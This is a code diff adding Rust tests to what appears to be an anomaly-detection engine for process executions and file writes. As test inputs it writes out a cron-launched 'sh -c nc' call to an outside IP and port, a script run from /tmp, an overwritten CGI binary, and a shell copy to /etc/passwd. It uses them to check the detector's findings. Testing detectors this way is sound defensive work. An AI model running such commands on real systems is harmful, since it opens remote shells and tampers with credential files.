@@ -62,6 +62,56 @@ fn the_parent_is_part_of_an_execution() {
 }
 
 #[test]
+fn an_interpreter_is_another_program_with_every_script() {
+    let (mut model, web) = (model(), web());
+    let run = |args: &[&str], at| {
+        let mut process = web.process("/bin/dash");
+        let exec = Arc::make_mut(&mut process.exec);
+        (exec.args, exec.name) = (args.iter().map(|a| (*a).to_owned()).collect(), "sh".into());
+        process.ancestors.insert(0, Arc::clone(&web.process("/usr/sbin/cron").exec));
+        web.execute_as(process, at)
+    };
+    judge(&mut model, [run(&["sh", "-c", "backup --daily 1234567"], 0), run(&["sh", "/opt/rotate.sh"], 0)]);
+    model.advance(START + LATER);
+    assert_eq!(judge(&mut model, [run(&["sh", "-c", "backup --weekly"], LATER)]), []);
+    let other = one(&mut model, run(&["sh", "-c", "nc 203.0.113.9 4444"], LATER));
+    assert_eq!(other.title, "web: /usr/sbin/cron ran /bin/dash (sh) -c nc");
+    assert_eq!(other.usual, ["/bin/dash (sh) -c backup", "/bin/dash (sh) /opt/rotate.sh"]);
+    assert_eq!(one(&mut model, run(&["sh", "/tmp/x.sh"], LATER)).object, "/bin/dash (sh) /tmp/x.sh");
+}
+
+#[test]
+fn a_program_that_was_written_over_is_another_one() {
+    let (mut model, web) = learnt();
+    let written = |name: &str| {
+        let mut process = web.process(name);
+        Arc::make_mut(&mut process.exec).in_writable_layer = true;
+        process.ancestors.insert(0, Arc::clone(&web.process("httpd@/bin/busybox").exec));
+        with_byte(web.execute_as(process, LATER), 16)
+    };
+    let finding = one(&mut model, written("/www/cgi-bin/count"));
+    assert_eq!(finding.object, "/www/cgi-bin/count (written)");
+    assert_eq!(finding.severity, Severity::High);
+}
+
+#[test]
+fn what_comes_of_a_session_in_a_terminal_is_one_story_unless_it_is_grave() {
+    let (mut model, web) = learnt();
+    let typed = |program: &str, path: &str, at| {
+        let mut shell = web.process("/bin/bash");
+        Arc::make_mut(&mut shell.exec).terminal = "pts0".into();
+        let mut process = web.process(program);
+        process.ancestors.insert(0, shell.exec);
+        web.write_as(Some(process), path, LATER + at)
+    };
+    let first = one(&mut model, typed("/bin/tee", "/srv/a", 0));
+    assert_eq!(judge(&mut model, [typed("/bin/cp", "/srv/b", SECOND), typed("/bin/mv", "/srv/c", 2 * SECOND)]), []);
+    let update = model.take_updates().remove(0);
+    assert_eq!((update.uid, update.count, update.evidence.len()), (first.uid, 3, 2));
+    assert_eq!(one(&mut model, typed("/bin/cp", "/etc/passwd", SECOND)).severity, Severity::High);
+}
+
+#[test]
 fn applets_of_one_binary_are_different_programs() {
     let (mut model, web) = learnt();
     let finding = one(&mut model, web.execute_from_outside("id@/bin/busybox", LATER));
